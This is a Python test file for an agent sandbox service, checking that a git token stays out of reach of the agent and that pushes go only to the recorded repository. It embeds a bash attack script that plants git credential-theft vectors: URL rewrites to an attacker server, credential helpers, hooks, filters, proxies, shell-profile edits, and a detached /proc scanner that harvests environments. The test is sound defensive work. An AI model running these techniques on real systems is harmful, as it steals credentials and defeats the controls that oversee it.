"""The git token never reaches code the agent controls, and pushes go only to the workspace's recorded URL.

The `shell` agent runs a bash script as the agent user: here that script is an attacker who plants every git
vector it can (URL rewriting, pushurl, credential helpers, hooks, filters, fsmonitor, proxies, includes, the
user's ~/.gitconfig and shell profile, processes scanning /proc) and a second git server stands by as the
attacker's. After PushChanges, the test checks what each git server received and searches the whole sandbox
for the token.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import uuid
from collections.abc import Iterator

import grpc
import pytest

from sandbox.v1 import sandbox_pb2 as pb
from tests.client import Client, Collected, expect_error
from tests.docker_only import client, stack  # noqa: F401  (Docker-only fixtures)
from tests.git_server import GitServer

CANARY = "/tmp/canary"
HOOKS = (
    "pre-commit",
    "prepare-commit-msg",
    "commit-msg",
    "post-commit",
    "pre-push",
    "reference-transaction",
    "post-checkout",
    "post-rewrite",
    "pre-auto-gc",
    "push-to-checkout",
)

# Placeholders: @CANARY@, @EVIL@ (the attacker's repository URL), @EVIL_BASE@ (its server), @REAL@ (the
# workspace's repository URL), @REAL_BASE@ (its server).
ATTACK = r"""
set -u
C=@CANARY@
mkdir -p "$C/hooks"
# Every hook and helper dumps its arguments, stdin and environment into the canary directory.
cat > "$C/dump" <<'EOS'
#!/bin/bash
{ echo "== $0 $*"; env; } >> "@CANARY@/dump-$(basename "$1")-$$" 2>/dev/null
exit 0
EOS
cat > "$C/filter" <<'EOS'
#!/bin/bash
{ echo "== filter $*"; env; } >> "@CANARY@/filter-$$" 2>/dev/null
cat
EOS
cat > "$C/cred" <<'EOS'
#!/bin/bash
{ echo "== credential $*"; cat; env; } >> "@CANARY@/cred-$$" 2>/dev/null
echo username=x-access-token
echo password=stolen-by-the-agent
EOS
chmod +x "$C/dump" "$C/filter" "$C/cred"
for h in @HOOKS@; do
  printf '#!/bin/bash\n{ echo "== hook %s $*"; env; } >> "%s/hook-%s-$$"\n' "$h" "$C" "$h" > "$C/hooks/$h"
  cp "$C/hooks/$h" ".git/hooks/$h"
  chmod +x "$C/hooks/$h" ".git/hooks/$h"
done
# A hook that moves other refs: only the recorded branch may change on the server.
for d in .git/hooks "$C/hooks"; do
  printf 'git update-ref refs/heads/main HEAD; git update-ref refs/heads/smuggled HEAD\n' >> "$d/post-commit"
done

attack_config() {  # $1: git config's file option
  git config "$@" remote.origin.url "@EVIL@"
  git config "$@" remote.origin.pushurl "@EVIL@"
  git config "$@" --add remote.origin.push "+refs/heads/*:refs/heads/stolen/*"
  git config "$@" "url.@EVIL@.insteadOf" "@REAL@"
  git config "$@" "url.@EVIL@.pushInsteadOf" "@REAL@"
  git config "$@" "url.@EVIL_BASE@/.insteadOf" "@REAL_BASE@/"
  git config "$@" "url.@EVIL_BASE@/.pushInsteadOf" "@REAL_BASE@/"
  git config "$@" credential.helper "$C/cred"
  git config "$@" "credential.@REAL_BASE@.helper" "$C/cred"
  git config "$@" core.askPass "$C/dump askpass"
  git config "$@" core.hooksPath "$C/hooks"
  git config "$@" core.fsmonitor "$C/dump fsmonitor"
  git config "$@" core.sshCommand "$C/dump ssh"
  git config "$@" core.pager "$C/dump pager"
  git config "$@" filter.evil.clean "$C/filter clean"
  git config "$@" filter.evil.smudge "$C/filter smudge"
  git config "$@" diff.external "$C/dump diff-external"
  git config "$@" diff.evil.textconv "$C/dump textconv"
  git config "$@" http.proxy "@EVIL_BASE@"
  git config "$@" http.extraHeader "X-Stolen: from-config"
  git config "$@" "http.@REAL_BASE@/.extraHeader" "X-Stolen: from-url-config"
  git config "$@" http.followRedirects true
  git config "$@" protocol.allow always
  git config "$@" "url.ext::$C/dump ext #.insteadOf" "@REAL@"
}
attack_config
attack_config --global
printf '[credential]\n\thelper = %s\n[url "%s"]\n\tinsteadOf = %s\n' "$C/cred" "@EVIL@" "@REAL@" > "$C/included"
git config include.path "$C/included"
git config "includeIf.gitdir:/.path" "$C/included"
printf '* filter=evil diff=evil\n' > .gitattributes
# Git variables for every login or interactive shell of the agent user, and system-wide where writable.
for f in ~/.bashrc ~/.profile ~/.bash_profile; do
  printf 'export GIT_TRACE=%s/trace GIT_TRACE_CURL=%s/trace-curl GIT_SSH_COMMAND="%s/dump ssh-env"\n' \
    "$C" "$C" "$C" >> "$f"
  printf 'export GIT_CONFIG_GLOBAL=%s/included GIT_ASKPASS="%s/dump askpass-env"\n' "$C" "$C" >> "$f"
done
if [ -w /etc/profile.d ]; then cp ~/.bashrc /etc/profile.d/zz-evil.sh; echo profile-writable > "$C/profile"; fi
if [ -w /etc/gitconfig ] || [ -w /etc ]; then cp "$C/included" /etc/gitconfig; echo etc-writable > "$C/etc"; fi
# A process left behind that reads every environment and command line it can, for the whole push.
cat > "$C/scan" <<'EOS'
#!/bin/bash
while [ ! -e "@CANARY@/stop" ]; do
  for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do tr '\0' '\n' < "$f" 2>/dev/null; echo; done
  sleep 0.005
done | awk '!seen[$0]++ { print; fflush() }' >> "@CANARY@/scanned-$1"
EOS
chmod +x "$C/scan"
setsid nohup "$C/scan" leftover > /dev/null 2>&1 < /dev/null &
echo "the agent's work" > work.txt
echo attack-ready
"""


def attack_script(canary: str, real: str, evil: str, real_base: str, evil_base: str) -> str:
    values = {"@CANARY@": canary, "@EVIL_BASE@": evil_base, "@REAL_BASE@": real_base, "@HOOKS@": " ".join(HOOKS)}
    script = ATTACK.replace("@EVIL@", evil).replace("@REAL@", real)
    for key, value in values.items():
        script = script.replace(key, value)
    return script


@pytest.fixture
def attacker() -> Iterator[GitServer]:
    """The attacker's git server: it asks for credentials (401) so any client that has some would send them."""
    with GitServer() as server:
        server.create_repo("evil", {"README.md": "evil\n"})
        yield server


def new_repo(server: GitServer) -> str:
    name = f"repo-{uuid.uuid4().hex[:8]}"
    server.create_repo(name, {"README.md": "old title\n"})
    return name


async def create_with_repo(client: Client, server: GitServer, name: str, **setup: object) -> pb.Sandbox:  # noqa: F811
    sandbox = await client.create(
        repository=pb.RepositorySetup(url=server.url(name), token=server.token or "", **setup)
    )
    done = await client.attach(sandbox.workspace.setup_execution, Collected())
    assert done.finished is not None and done.finished.state == pb.Execution.STATE_SUCCEEDED, bytes(done.stderr)
    return sandbox


async def push(client: Client, sandbox: str, token: str, message: str = "the agent's change") -> pb.PushChangesResponse:  # noqa: F811
    request = pb.PushChangesRequest(sandbox=sandbox, message=message, token=token)
    return await client.stub.PushChanges(request, metadata=client.metadata)


async def sandbox_files(client: Client, sandbox: str) -> bytes:  # noqa: F811
    """Every file an attacker could leave the token in, as one tar stream (read as root, searched here, so the
    token never has to enter the sandbox to be looked for)."""
    dirs = "/tmp /home /workspace /root /var/tmp /run /dev/shm /etc"
    listing = await client.run(
        sandbox, ["sh", "-c", f"tar -cf - --ignore-failed-read --exclude=/proc {dirs} 2>/dev/null; true"]
    )
    assert len(listing.stdout) > 10_000, bytes(listing.stderr)
    return bytes(listing.stdout)


async def test_an_agent_that_tries_every_git_vector_gets_no_token(
    client: Client,  # noqa: F811
    git_server: GitServer,
    attacker: GitServer,
) -> None:
    token = git_server.token or ""
    basic = base64.b64encode(f"x-access-token:{token}".encode())
    name = new_repo(git_server)
    main_before = git_server.rev_parse(name, "main")
    author = pb.GitAuthor(name="Recorded Author", email="recorded@example.com")
    sandbox = await create_with_repo(client, git_server, name, branch="agent/work", author=author)
    git_server.clear_requests()
    scanner: asyncio.Task[Collected] | None = None
    try:
        real, evil = git_server.url(name), attacker.url("evil")
        script = attack_script(CANARY, real, evil, git_server.base_url, attacker.base_url)
        planted = await client.run_agent(sandbox.name, "shell", script)
        assert planted.finished is not None and planted.finished.state == pb.Execution.STATE_SUCCEEDED, bytes(
            planted.stderr
        )
        assert bytes(planted.stdout).endswith(b"attack-ready\n")
        # A second agent run that is still going during the push, scanning /proc as well.
        scanner = asyncio.create_task(client.run_agent(sandbox.name, "shell", f"{CANARY}/scan running"))
        for _ in range(100):
            probe = await client.run(sandbox.name, ["sh", "-c", f"test -s {CANARY}/scanned-running && echo yes"])
            if bytes(probe.stdout) == b"yes\n":
                break
            await asyncio.sleep(0.1)

        pushed = await push(client, sandbox.name, token)

        await client.run(sandbox.name, ["touch", f"{CANARY}/stop"])
        finished = await asyncio.wait_for(scanner, 30)
        assert finished.finished is not None and finished.finished.state == pb.Execution.STATE_SUCCEEDED
        # The push went to the recorded repository, recorded branch, and moved nothing else.
        assert pushed.changed and pushed.branch == "agent/work"
        assert git_server.branches(name) == ["agent/work", "main"]
        assert git_server.rev_parse(name, "main") == main_before
        tip = git_server.log(name, "agent/work")[0]
        assert tip.sha == pushed.commit_sha and tip.parents == (main_before,)
        assert (tip.author_name, tip.author_email) == ("Recorded Author", "recorded@example.com")
        assert git_server.list_files(name, "agent/work") == [".gitattributes", "README.md", "work.txt"]
        assert git_server.read_file(name, "agent/work", "work.txt") == b"the agent's work\n"
        assert (pushed.files_changed, pushed.insertions, pushed.deletions) == (2, 2, 0)
        # The attacker's server heard nothing at all (not even a proxy request); the real one got the token
        # only for the workspace's repository, and never outside the Authorization header.
        assert attacker.requests == []
        assert git_server.requests, "the push reached the real server"
        assert {r.repo for r in git_server.requests if r.authorized} == {name}
        assert git_server.requests_exposing(token) == []
        assert not any("X-Stolen" in str(r.headers) for r in git_server.requests)
        # The vectors were live: the agent's commit-time hooks and filters ran, the scanners scanned.
        canaries = bytes((await client.run(sandbox.name, ["ls", CANARY])).stdout).decode().split()
        for expected in ("hook-pre-commit-", "hook-post-commit-", "filter-", "scanned-leftover", "scanned-running"):
            assert any(c.startswith(expected) for c in canaries), (expected, {c.rstrip("0123456789") for c in canaries})
        scanned = await client.run(sandbox.name, ["sh", "-c", f"cat {CANARY}/scanned-*"])
        assert b"PATH=" in bytes(scanned.stdout)  # the scanners read environments (the agent's own)
        # And the token is in no file of the sandbox: no canary, no scan, no config, no log.
        files = await sandbox_files(client, sandbox.name)
        assert token.encode() not in files and basic not in files
        # Nobody sent the credentials the agent's own helper hands out.
        assert all(r.authorized or r.header("Authorization") is None for r in git_server.requests)
    finally:
        if scanner is not None and not scanner.done():
            scanner.cancel()
            with contextlib.suppress(BaseException):
                await scanner
        await client.delete(sandbox.name)


async def test_a_shallow_clone_pushes_with_the_right_stats(client: Client, git_server: GitServer) -> None:  # noqa: F811
    name = new_repo(git_server)
    git_server.commit_files(name, "main", {"second.txt": "2\n", "third.txt": "3\n"})
    base = git_server.rev_parse(name, "main")
    sandbox = await create_with_repo(client, git_server, name, depth=1, branch="shallow")
    try:
        agent = await client.run_agent(
            sandbox.name, "shell", "git rev-parse --is-shallow-repository; echo new > new.txt; rm third.txt"
        )
        assert bytes(agent.stdout) == b"true\n"
        pushed = await push(client, sandbox.name, git_server.token or "")
        assert pushed.changed and (pushed.files_changed, pushed.insertions, pushed.deletions) == (2, 1, 1)
        assert "+new" in pushed.diff and "-3" in pushed.diff
        assert git_server.log(name, "shallow")[0].parents == (base,)
        assert git_server.list_files(name, "shallow") == ["README.md", "new.txt", "second.txt"]
        again = await push(client, sandbox.name, git_server.token or "")
        assert again.changed and again.commit_sha == pushed.commit_sha  # nothing new: the same commit again
    finally:
        await client.delete(sandbox.name)


@pytest.mark.parametrize(
    "sabotage",
    [
        # A base the remote never had: the bundle's prerequisite cannot be fetched from the recorded URL.
        "git update-ref refs/sandbox/base $(git commit-tree -m fake $(git write-tree))",
        # Garbage where the bundle should be: a hook that writes to the output of the commit step.
        # A checkout whose objects are gone: the commit step fails.
        "rm -rf .git/objects/pack .git/objects/??",
    ],
)
async def test_a_sabotaged_checkout_fails_the_push_cleanly(
    client: Client,  # noqa: F811
    git_server: GitServer,
    sabotage: str,
) -> None:
    name = new_repo(git_server)
    sandbox = await create_with_repo(client, git_server, name, branch="sabotaged")
    try:
        await client.run_agent(sandbox.name, "shell", f"echo change >> README.md; {sabotage}")
        err = await expect_error(
            push(client, sandbox.name, git_server.token or ""), grpc.StatusCode.FAILED_PRECONDITION, "PUSH_FAILED"
        )
        assert (git_server.token or "") not in (err.details() or "")
        assert git_server.branches(name) == ["main"]
    finally:
        await client.delete(sandbox.name)


async def test_an_agent_waits_for_setup_to_finish(client: Client, git_server: GitServer) -> None:  # noqa: F811
    """Setup's git processes hold the clone's token: no agent process may run beside them."""
    name = f"repo-{uuid.uuid4().hex[:8]}"
    git_server.create_repo(name, {"README.md": "x\n", "requirements.txt": "# nothing\n"})
    sandbox = await client.create(
        repository=pb.RepositorySetup(url=git_server.url(name), token=git_server.token or "", install_dependencies=True)
    )
    try:
        # Setup's processes carry "sandbox-setup" in their command lines ("[s]" keeps this one's own out).
        count = "for f in /proc/[0-9]*/cmdline; do tr '\\0' ' ' < \"$f\" 2>/dev/null; echo; done"
        count += " | grep -c 'sandbox-[s]etup'"
        agent = await client.run_agent(
            sandbox.name, "shell", f"echo setup processes: $({count}); test -d .venv && echo venv"
        )
        assert bytes(agent.stdout) == b"setup processes: 0\nvenv\n", bytes(agent.stderr)
    finally:
        await client.delete(sandbox.name)
